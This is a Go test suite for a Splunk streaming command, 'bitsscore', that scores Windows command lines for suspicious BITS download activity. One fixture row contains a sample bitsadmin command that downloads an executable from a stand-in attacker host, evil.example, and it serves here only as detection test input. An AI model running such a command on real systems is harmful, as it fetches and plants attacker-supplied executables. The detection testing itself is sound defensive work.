package command_test

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"bitsscore/src/command"
	"bitsscore/src/internal/testevents"
	"bitsscore/src/scp"
	"bitsscore/src/splcsv"
	"bitsscore/src/splunkd"
)

var outputFields = []string{"CommandLine", "Image", "IsBitsAdmin", "IsPowerShell", "HasNotify", "HasTransfer", "HasReset", "SuspiciousDest", "SuspiciousExt", "ExternalDownload", "SuspicionScore"}

func searchInfo(t testing.TB, args ...string) scp.SearchInfo {
	return scp.SearchInfo{
		Args: args, RawArgs: args, DispatchDir: t.TempDir(), SID: "1700000000.1", App: "bitsscore",
		Owner: "admin", Username: "admin", SplunkVersion: "9.2.1", Command: "bitsscore",
		MaxResultRows: "50000", EarliestTime: "1700000000", LatestTime: "1700003600.5",
	}
}

func runSession(t *testing.T, chunks []splunkd.Chunk, opt splunkd.Options, args ...string) *splunkd.Result {
	t.Helper()
	res, err := splunkd.Run(bitsscoreBin, searchInfo(t, args...), chunks, opt)
	if err != nil {
		t.Fatalf("session failed: %v", err)
	}
	return res
}

func TestGetInfo(t *testing.T) {
	res := runSession(t, nil, splunkd.Options{})
	if res.Info.Type != "streaming" {
		t.Errorf("type = %q, want streaming", res.Info.Type)
	}
	if diff := cmp.Diff([]string{"CommandLine", "ProcessCommandLine", "Image"}, res.Info.RequiredFields); diff != "" {
		t.Errorf("required_fields (-want +got):\n%s", diff)
	}
}

// The shapes of sessions splunkd produces across versions.
func TestSessionShapes(t *testing.T) {
	const header = "Image,CommandLine,\"_chunked_idx\"\n"
	const row0 = "C:\\Windows\\System32\\bitsadmin.exe,\"bitsadmin /transfer j http://evil.example/a.exe C:\\Users\\Public\\a.exe\",0\n"
	const row1 = "C:\\Windows\\notepad.exe,notepad.exe,1\n"
	tests := []struct {
		name   string
		chunks []splunkd.Chunk
		rows   []int // records expected back per reply
	}{
		{"no execute at all (getinfo then EOF)", nil, nil},
		{"data in the final chunk (6.3 style)", []splunkd.Chunk{{Body: []byte(header + row0 + row1), Finished: true}}, []int{2}},
		{"8.x: data, then a header-only final chunk", []splunkd.Chunk{{Body: []byte(header + row0)}, {Body: []byte(header + row1)}, {Body: []byte(header), Finished: true}}, []int{1, 1, 0}},
		{"8.x: header-only chunk with finished=false", []splunkd.Chunk{{Body: []byte(header)}, {Body: []byte(header + row0), Finished: true}}, []int{0, 1}},
		{"empty bodies", []splunkd.Chunk{{Body: nil}, {Body: []byte(header + row1)}, {Body: nil, Finished: true}}, []int{0, 1, 0}},
	}
	for _, tt := range tests {
		for _, ahead := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/write-ahead=%t", tt.name, ahead), func(t *testing.T) {
				res := runSession(t, tt.chunks, splunkd.Options{WriteAhead: ahead})
				if len(res.Replies) != len(tt.chunks) {
					t.Fatalf("%d replies for %d requests", len(res.Replies), len(tt.chunks))
				}
				for i, reply := range res.Replies {
					got := 0
					if reply.Table != nil {
						got = len(reply.Table.Rows)
					}
					if got != tt.rows[i] {
						t.Errorf("reply %d has %d records, want %d", i+1, got, tt.rows[i])
					}
					if len(tt.chunks[i].Body) > 0 {
						for _, f := range outputFields {
							if reply.Table.Column(f) < 0 {
								t.Errorf("reply %d lacks column %s: %q", i+1, f, reply.Table.Header)
							}
						}
					}
				}
			})
		}
	}
}

// A process that splunkd starts only to ask getinfo, or not at all.
func TestSilentStarts(t *testing.T) {
	s, err := splunkd.Start(bitsscoreBin)
	if err != nil {
		t.Fatal(err)
	}
	exit, err := s.Wait()
	if err != nil || exit.Code != 0 || len(exit.Stderr) > 0 {
		t.Errorf("no input at all: %v, %s", err, exit)
	}
}

// Values in any column order, hostile bytes, and fields the command does
// not own all come back unchanged; the new fields are added.
func TestPassthroughAndColumnOrder(t *testing.T) {
	hostile := []string{
		"line1\nline2", `say "hi", ok`, "\xff\xfe invalid utf-8", "nul\x00byte", "lone\rcr", "crlf\r\ninside",
		"  spaces  ", "$dollar$;$semi$", "", strings.Repeat("x", 10<<20),
	}
	columns := []string{"_raw", "_time", "Image", "CommandLine", "ProcessCommandLine", "_chunked_idx", "host"}
	rows := make([][]string, len(hostile))
	for i, h := range hostile {
		rows[i] = []string{h, fmt.Sprintf("%d.%03d", 1700000000+i, i), `C:\Windows\System32\bitsadmin.exe`, "bitsadmin /resume job" + h[:min(len(h), 40)], "", fmt.Sprint(i), "host-" + h[:min(len(h), 10)]}
	}
	for _, perm := range [][]int{{0, 1, 2, 3, 4, 5, 6}, {5, 3, 0, 6, 2, 1, 4}, {6, 5, 4, 3, 2, 1, 0}} {
		t.Run(fmt.Sprint(perm), func(t *testing.T) {
			header := make([]string, len(perm))
			for i, p := range perm {
				header[i] = columns[p]
			}
			w := splcsv.NewWriter()
			for _, h := range header {
				w.WriteString(h)
			}
			w.EndRecord()
			for _, row := range rows {
				for _, p := range perm {
					w.WriteString(row[p])
				}
				w.EndRecord()
			}
			body := bytes.Clone(w.Bytes())
			res := runSession(t, []splunkd.Chunk{{Body: body, Finished: true}}, splunkd.Options{})
			out := res.Replies[0].Table
			for _, f := range outputFields {
				if out.Column(f) < 0 {
					t.Fatalf("output lacks %s", f)
				}
			}
			for r, row := range rows {
				for _, name := range []string{"_raw", "_time", "_chunked_idx", "host", "Image", "CommandLine", "ProcessCommandLine"} {
					want := row[slices.Index(columns, name)]
					if got := out.Get(r, name); got != want {
						t.Errorf("record %d field %s changed: %q -> %q", r, name, clip(want), clip(got))
					}
				}
				if got := out.Get(r, "IsBitsAdmin"); got != "1" {
					t.Errorf("record %d IsBitsAdmin = %q, want 1", r, got)
				}
			}
		})
	}
}

func clip(s string) string {
	if len(s) > 60 {
		return s[:60] + fmt.Sprintf("...(%d bytes)", len(s))
	}
	return s
}

// Multivalue fields: decoded for matching, written back with their
// companions; CommandLine coalesced from a multivalue ProcessCommandLine
// carries all its values.
func TestMultivalue(t *testing.T) {
	body := "Image,CommandLine,ProcessCommandLine,\"_chunked_idx\",\"__mv_Image\",\"__mv_CommandLine\",\"__mv_ProcessCommandLine\",\"__mv__chunked_idx\"\n" +
		// Image multivalue: one value is bitsadmin.
		"\"notepad.exe\nC:\\x\\bitsadmin.exe\",\"bitsadmin /reset\",,0,\"$notepad.exe$;$C:\\x\\bitsadmin.exe$\",,,\n" +
		// CommandLine null, ProcessCommandLine multivalue with a $ inside.
		"C:\\p\\powershell.exe,,\"echo $a\nStart-BitsTransfer x\",1,,,\"$echo $$a$;$Start-BitsTransfer x$\",\n"
	res := runSession(t, []splunkd.Chunk{{Body: []byte(body), Finished: true}}, splunkd.Options{})
	out := res.Replies[0].Table
	check := func(row int, field string, want ...string) {
		t.Helper()
		got, err := out.Values(row, field)
		if err != nil {
			t.Fatalf("record %d %s: %v", row, field, err)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("record %d %s (-want +got):\n%s", row, field, diff)
		}
	}
	check(0, "Image", "notepad.exe", `C:\x\bitsadmin.exe`)
	check(0, "IsBitsAdmin", "1")
	check(0, "HasReset", "1")
	check(1, "CommandLine", "echo $a", "Start-BitsTransfer x")
	check(1, "ProcessCommandLine", "echo $a", "Start-BitsTransfer x")
	check(1, "HasTransfer", "1")
	check(1, "IsPowerShell", "1")
	check(1, "SuspicionScore", "1")
}

// Fields are added to the header as a union: a chunk that already has some
// of the output columns (a search that runs bitsscore twice) keeps its
// column order, and stale multivalue companions are cleared.
func TestExistingOutputColumns(t *testing.T) {
	body := "IsBitsAdmin,Image,\"__mv_IsBitsAdmin\",\"_chunked_idx\"\n" +
		"7,C:\\x\\bitsadmin.exe,\"$7$;$8$\",0\n"
	res := runSession(t, []splunkd.Chunk{{Body: []byte(body), Finished: true}}, splunkd.Options{})
	out := res.Replies[0].Table
	if !slices.Equal(out.Header[:4], []string{"IsBitsAdmin", "Image", "__mv_IsBitsAdmin", "_chunked_idx"}) {
		t.Errorf("header = %q: the input's columns must lead, in order", out.Header)
	}
	if v, _ := out.Values(0, "IsBitsAdmin"); !slices.Equal(v, []string{"1"}) {
		t.Errorf("IsBitsAdmin = %q, want [1]", v)
	}
	seen := map[string]bool{}
	for _, h := range out.Header {
		if seen[h] {
			t.Errorf("column %s appears twice", h)
		}
		seen[h] = true
	}
}

func TestBadArguments(t *testing.T) {
	for _, args := range [][]string{{"mode=fast"}, {"frobnicate=1"}, {"mode"}, {"debug=maybe"}, {"mode=spl", "mode=hardened"}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			s, err := splunkd.Start(bitsscoreBin)
			if err != nil {
				t.Fatal(err)
			}
			_, err = s.GetInfo(searchInfo(t, args...))
			var ce *splunkd.CommandError
			if !errors.As(err, &ce) {
				t.Fatalf("getinfo err = %v, want an error reply", err)
			}
			if !strings.Contains(ce.Text, "Syntax: bitsscore [mode=spl|hardened]") {
				t.Errorf("error %q does not show the syntax", ce.Text)
			}
			if len(ce.Messages) != 1 || ce.Messages[0].Level != "ERROR" || ce.Messages[0].Text != ce.Text {
				t.Errorf("inspector messages = %v, want one ERROR with the text", ce.Messages)
			}
			exit, err := s.Wait()
			if err != nil || exit.Code == 0 || len(exit.Stderr) > 0 {
				t.Errorf("exit: %v, %s; want a non-zero status and silent stderr", err, exit)
			}
		})
	}
}

func TestDebugLog(t *testing.T) {
	info := searchInfo(t, "debug=t")
	body := []byte("Image,\"_chunked_idx\"\nx,0\n")
	if _, err := splunkd.Run(bitsscoreBin, info, []splunkd.Chunk{{Body: body, Finished: true}}, splunkd.Options{}); err != nil {
		t.Fatal(err)
	}
	log, err := os.ReadFile(filepath.Join(info.DispatchDir, "bitsscore.log"))
	if err != nil {
		t.Fatalf("debug=t wrote no log: %v", err)
	}
	for _, want := range []string{"getinfo: splunk 9.2.1", "chunk 1: 25 bytes in", "end of input after 1 chunks"} {
		if !bytes.Contains(log, []byte(want)) {
			t.Errorf("debug log lacks %q:\n%s", want, log)
		}
	}
}

// Through the binary and real pipes, large chunks arrive a pipe's worth
// at a time and are handed out for scoring as they arrive (the debug log
// counts the bytes), and every record comes back as it does from 1,000-row chunks,
// which are never scored early, in both modes.
func TestLargeChunksScoredAsTheyArrive(t *testing.T) {
	for _, tt := range []struct {
		args []string
		body func(i int) []byte
	}{
		{[]string{"mode=spl"}, func(i int) []byte { return testevents.Body(20000, uint64(i)) }},
		{[]string{"mode=hardened"}, func(i int) []byte { return testevents.Body(20000, uint64(i)) }},
		// Whole Windows events as _raw, read by raw=t's extractor in
		// each worker.
		{[]string{"mode=hardened", "raw=t"}, func(i int) []byte { return xmlEvents(t, i*3000, 3000) }},
	} {
		mode := strings.Join(tt.args, " ")
		t.Run(mode, func(t *testing.T) {
			var large, small []splunkd.Chunk
			for i := range 2 {
				large = append(large, splunkd.Chunk{Body: tt.body(i)})
			}
			for _, c := range large {
				table, err := splunkd.DecodeTable(c.Body)
				if err != nil {
					t.Fatal(err)
				}
				for from := 0; from < len(table.Rows); from += 1000 {
					part := &splunkd.Table{Header: table.Header, Rows: table.Rows[from:min(from+1000, len(table.Rows))]}
					small = append(small, splunkd.Chunk{Body: part.Encode()})
				}
			}
			info := searchInfo(t, append(tt.args, "debug=t")...)
			got, err := splunkd.Run(bitsscoreBin, info, large, splunkd.Options{})
			if err != nil {
				t.Fatal(err)
			}
			want := runSession(t, small, splunkd.Options{}, tt.args...)
			rows := func(res *splunkd.Result) [][]string {
				var all [][]string
				for _, r := range res.Replies {
					all = append(all, r.Table.Rows...)
				}
				return all
			}
			if diff := cmp.Diff(rows(want), rows(got)); diff != "" {
				t.Errorf("records from 10 MB chunks differ from those of 1,000-row chunks (-small +large):\n%.2000s", diff)
			}
			log, err := os.ReadFile(filepath.Join(info.DispatchDir, command.DebugLogName))
			if err != nil {
				t.Fatal(err)
			}
			early := regexp.MustCompile(`chunk \d+: \d+ bytes in \((\d+) handed out as they arrived\)`).FindAllSubmatch(log, -1)
			if len(early) != 2 || string(early[0][1]) == "0" || string(early[1][1]) == "0" {
				t.Errorf("the debug log does not show both chunks scored as they arrived:\n%s", log)
			}
		})
	}
}
